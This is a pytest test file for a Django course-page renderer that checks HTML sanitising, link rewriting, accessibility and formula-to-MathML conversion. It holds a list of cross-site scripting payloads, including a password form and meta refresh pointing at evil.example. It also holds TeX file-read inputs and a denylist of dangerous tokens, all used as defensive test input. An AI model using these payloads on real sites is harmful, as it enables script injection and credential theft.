from __future__ import annotations

import pytest
from django.utils.translation import override
from hypothesis import given
from hypothesis import strategies as st

from cordee.courses.rendering import Target, finish, render

SHA = "a" * 64


def resolve(url: str) -> Target:
    if url.startswith("/static/"):
        return Target("file", f"{SHA}/{url.removeprefix('/static/')}")
    if url.startswith("/jump_to_id/"):
        return Target("unit", url.removeprefix("/jump_to_id/"))
    return Target("elsewhere", url) if url.startswith(("http:", "https:", "mailto:", "#")) else Target("nowhere")


def shown(html: str) -> str:
    return finish(
        render(html, resolve=resolve),
        file_url=lambda sha256, name: f"FILE/{name}",
        unit_url=lambda unit: f"UNIT/{unit}",
    )


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<base href='https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<form action='https://evil.example'><input name=password></form>",
        "<p style='position:fixed;inset:0'>login</p>",
        "<object data='javascript:alert(1)'></object>",
        "<a href='jav&#x09;ascript:alert(1)'>x</a>",
        r"\(\href{javascript:alert(1)}{x}\)",
        "<details ontoggle=alert(1) open>x</details>",
    ],
)
def test_nothing_of_an_author_runs(attack: str) -> None:
    page = shown(attack).lower()
    for word in (
        "<script",
        "javascript:",
        "onerror",
        "onload",
        "ontoggle",
        "srcdoc",
        "<base",
        "<meta",
        "<form",
        "style=",
    ):
        assert word not in page or (word == "javascript:" and "<code>" in page)  # a refused formula is shown as text
    assert "<input" not in page


def test_links_to_files_and_units_get_their_real_address() -> None:
    page = shown('<a href="/static/a b.pdf">f</a> <a href="/jump_to_id/u2#q">u</a>')
    assert 'href="FILE/a b.pdf"' in page
    assert 'href="UNIT/u2#q"' in page


def test_an_image_without_alternative_text_says_so() -> None:
    assert 'alt="Image without description"' in shown('<img src="/static/a.png">')


def test_an_image_meant_as_decoration_stays_without_words() -> None:
    assert 'alt=""' in shown('<img src="/static/a.png" alt="">')


def test_a_foreign_image_becomes_a_link_with_its_words() -> None:
    page = shown('<img src="https://example.org/a.png" alt="A map">')
    assert "<img" not in page
    assert "A map (image at example.org)" in page


def test_a_frame_becomes_a_link() -> None:
    assert '<a href="https://video.example/1"' in shown(
        '<iframe src="https://video.example/1" title="The film"></iframe>'
    )


def test_media_from_elsewhere_are_not_loaded_and_those_of_the_course_are() -> None:
    page = shown(
        '<video src="https://elsewhere.example/v.mp4" poster="/static/p.png"></video><audio src="/static/a.mp3">'
    )
    assert "elsewhere.example" not in page
    assert 'poster="FILE/p.png"' in page
    assert 'src="FILE/a.mp3"' in page
    assert page.count("controls=") == 2


def test_a_foreign_image_inside_a_link_gives_the_link_its_words() -> None:
    page = shown('<a href="https://map.example/"><img src="https://img.example/m.png" alt="The map"></a>')
    assert page.count("<a ") == 1
    assert 'href="https://map.example/"' in page
    assert "The map (image at img.example)</span></a>" in page


def test_a_page_that_is_linked_to_cannot_reach_back() -> None:
    assert 'rel="noopener noreferrer"' in shown('<a href="https://elsewhere.example/">x</a>')


@pytest.mark.parametrize("tag", ["script", "style", "svg", "math", "title", "select", "textarea", "button", "noscript"])
def test_what_is_no_text_is_dropped_with_all_that_it_holds(tag: str) -> None:
    page = shown(f"<p>before</p><{tag}><text>HIDDEN</text></{tag}><p>after</p>")
    assert "HIDDEN" not in page
    assert "before" in page
    assert "after" in page


def test_headings_begin_below_ours_and_leave_no_gap() -> None:
    page = shown("<h1>a</h1><h4>b</h4><h2>c</h2>")
    assert "<h3>a</h3><h5>b</h5><h4>c</h4>" in page


def test_a_table_scrolls_in_its_own_box_reachable_by_keyboard() -> None:
    assert '<div class="table-scroll" role="region" tabindex="0"' in shown("<table><tr><td>1</td></tr></table>")


@pytest.mark.parametrize(
    "formula",
    [r"\(x^2\)", r"\[x^2\]", "$$x^2$$", "[mathjaxinline]x^2[/mathjaxinline]", "[mathjax]x^2[/mathjax]"],
)
def test_a_formula_becomes_mathml(formula: str) -> None:
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in shown(f"<p>Let {formula} be.</p>")


def test_a_dollar_is_a_dollar() -> None:
    assert "costs $5 or $6" in shown("<p>costs $5 or $6</p>")


def test_a_formula_in_code_is_left_alone() -> None:
    assert r"\(x\)" in shown(r"<pre>\(x\)</pre>")


@pytest.mark.parametrize("tex", ["{" * 5000, r"\frac{", "\\" * 3000, "x" * 100_000, r"\begin{matrix}" * 500])
def test_a_formula_that_cannot_be_read_stays_readable_and_does_not_hang(tex: str) -> None:
    assert "<code>" in shown(rf"<p>\({tex}\)</p>")


@pytest.mark.parametrize("tex", [r"\def\x{1}\x", r"\input{secret}", "{" * 61 + "x" + "}" * 61, "x" * 2001])
def test_a_formula_that_defines_reads_or_nests_without_end_stays_text(tex: str) -> None:
    page = shown(rf"<p>\({tex}\)</p>")
    assert "<code>" in page
    assert "<math" not in page


def test_our_placeholders_cannot_be_forged() -> None:
    assert "FILE/" not in shown(f'<a href="/-file/{SHA}/secret.pdf">x</a>')


@given(st.text(max_size=300))
def test_any_text_renders(html: str) -> None:
    assert "<script" not in shown(html).lower()


def test_a_callout_of_a_course_text_bears_its_word_in_the_reader_s_language() -> None:
    html = (
        '<blockquote class="callout-tip"><p>Count.</p></blockquote><blockquote class="callout-x"><p>a</p></blockquote>'
    )
    with override("en"):
        assert shown(html).startswith(
            "<blockquote><p><strong>Tip</strong></p><p>Count.</p></blockquote><blockquote><p>a"
        )
    with override("fr"):
        assert "<strong>Conseil</strong>" in shown(html)


@pytest.mark.parametrize(("line", "reached"), [("x" * 60, True), ("short", False), ("<b>short</b>", False)])
def test_a_listing_that_scrolls_can_be_reached_by_keyboard(line: str, reached: bool) -> None:
    page = shown(f"<pre><code>{line}\n2\n</code></pre>")
    assert ('<pre tabindex="0"><code>' in page) is reached
    assert line in page
